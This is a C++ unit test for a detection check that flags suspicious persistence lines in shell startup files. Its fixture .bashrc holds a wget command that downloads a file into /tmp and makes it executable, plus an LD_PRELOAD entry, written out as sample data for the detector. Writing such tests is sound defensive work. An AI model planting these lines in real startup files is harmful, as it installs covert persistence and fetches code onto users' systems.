#include <gtest/gtest.h>

#include "checks/test_facts.h"

namespace deminer {
extern const Check kPersistShellStartup;
namespace {

TEST(PersistShellStartupCheckTest, FlagsDownloadIntoTempAndIgnoresPreloadLines) {
  Facts facts = BaseFacts();
  PersistItem rc = MakeItem(PersistKind::kShellStartup, "/home/app/.bashrc",
                            {{1, "", "", "export PATH=$HOME/bin:$PATH"},
                             {7, "", "", "wget -q -O /tmp/k http://127.0.0.1/k && chmod +x /tmp/k"},
                             {8, "LD_PRELOAD", "", "/tmp/lib.so"}});
  rc.user = "app";
  facts.persistence.push_back(rc);
  const auto out = RunCheck(kPersistShellStartup, facts);
  ASSERT_EQ(out.size(), 1u);
  EXPECT_EQ(out[0].line, 7);
  EXPECT_EQ(out[0].evidence["owner"], "app");
  EXPECT_GE(out[0].evidence["reasons"].size(), 2u);
}

}  // namespace
}  // namespace deminer
